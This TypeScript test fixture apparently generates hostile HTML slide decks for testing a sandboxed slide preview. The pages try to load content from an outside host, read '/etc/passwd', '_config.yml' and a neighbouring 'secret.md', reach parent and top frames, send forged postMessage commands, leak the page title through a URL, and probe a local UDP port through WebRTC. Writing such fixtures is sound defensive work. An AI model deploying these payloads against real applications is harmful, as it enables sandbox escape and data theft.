/**
 * Slides of a site that try everything a page can try: to call `away`, to reach the app at `app`, to go elsewhere, to
 * read what lies beside their folder, to take the keys. What they could do is told in the page.
 */
export function hostileDeck(away: string, app: string): string {
  return `<!doctype html><html><head>
<link rel="stylesheet" href="own.css"><link rel="stylesheet" href="${away}/sheet.css">
<link rel="prefetch" href="${away}/prefetch"><link rel="preload" as="image" href="${away}/preload.png">
<link rel="icon" href="${away}/icon.png"><link rel="manifest" href="${away}/manifest">
<meta http-equiv="refresh" content="4;url=${away}/refresh"><base href="${away}/base/">
<style>@import url(${away}/import.css); @font-face { font-family: x; src: url(${away}/font.woff2) } body { font-family: x; background: url(${away}/back.png) }</style>
</head><body>
<h1>Our slides</h1><p id="own">no script of the folder ran</p><ul id="reached"></ul>
<script>function got(what) { const item = document.createElement('li'); item.textContent = what; document.querySelector('#reached').append(item) }
</script><script src="own.js"></script><script type="module" src="module.js"></script><script src="${away}/script.js"></script>
<img src="own.png" alt="own" onload="got('own picture')"><img src="${away}/pixel.gif" alt="">
<iframe src="${away}/frame"></iframe><iframe src="${app}/"></iframe><iframe src="https://www.youtube.com/embed/leaks"></iframe>
<object data="${away}/object"></object><embed src="${away}/embed"><video src="${away}/film.mp4" poster="${away}/poster.png" autoplay></video>
<form id="form" action="${away}/form" method="post" target="_top"><input name="a"></form>
<a id="link" href="${away}/link" ping="${away}/ping" target="_top">leave</a>
<script>
function attempt(act, what) { try { const done = act(); if (done && done.then) done.then(answer => answer && answer.ok !== false && got(what), () => {}); else if (done) got(what) } catch {} }
attempt(() => fetch('notes.md').then(answer => answer.ok), 'own notes')
for (const address of ['${away}/fetch', '${app}/api/listPosts', '/', '../../_config.yml', '/_config.yml', 'file:///etc/passwd', parent.location + ''])
  attempt(() => fetch(address, { method: 'POST', mode: 'no-cors' }), 'fetch ' + address)
attempt(() => fetch('../secret.md').then(answer => answer.ok), 'the file beside')
attempt(() => navigator.sendBeacon('${away}/beacon'), '')
attempt(() => void new WebSocket('${away}/socket'.replace('http', 'ws')))
attempt(() => void new EventSource('${away}/events'))
attempt(() => void new Worker('${away}/worker.js'))
attempt(() => void (new Image().src = '${away}/image'))
attempt(() => parent.document.title, 'the page around')
attempt(() => parent.parent.document.title, 'the preview')
attempt(() => top.document.title, 'the app')
attempt(() => top.lectern, 'the bridge')
attempt(() => localStorage.length + 1, 'storage')
attempt(() => document.cookie = 'a=b')
attempt(() => window.open('${away}/window'), 'a window')
attempt(() => { top.location = '${away}/top' })
attempt(() => { parent.location = '${away}/parent' })
document.querySelector('#form').submit()
document.querySelector('#link').click()
for (const target of [parent, parent.parent, top])
  for (const type of ['ready', 'open-pdf', 'link', 'keys', 'patch', 'look'])
    target.postMessage({ type, url: '${away}/message', path: '/slides/talk.pdf', keys: 'Mod+S' }, '*')
const field = document.createElement('input')
document.body.append(field)
addEventListener('message', ({ data }) => { if (data === 'steal') setInterval(() => field.focus(), 20) })
setTimeout(() => { location.href = 'https://www.youtube.com/embed/leaks?' + document.title }, 1500)
setTimeout(() => { location.href = '${away}/go' }, 2500)
</script></body></html>
`
}

/** Slides that send packets to a port of this machine, the way calls between browsers begin. */
export function callingDeck(udpPort: number): string {
  const call = `const call = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${udpPort}' }] }); call.createDataChannel('x'); call.createOffer().then(offer => call.setLocalDescription(offer))`
  return `<!doctype html><h1>Our slides</h1><script>${call}</script>`
}
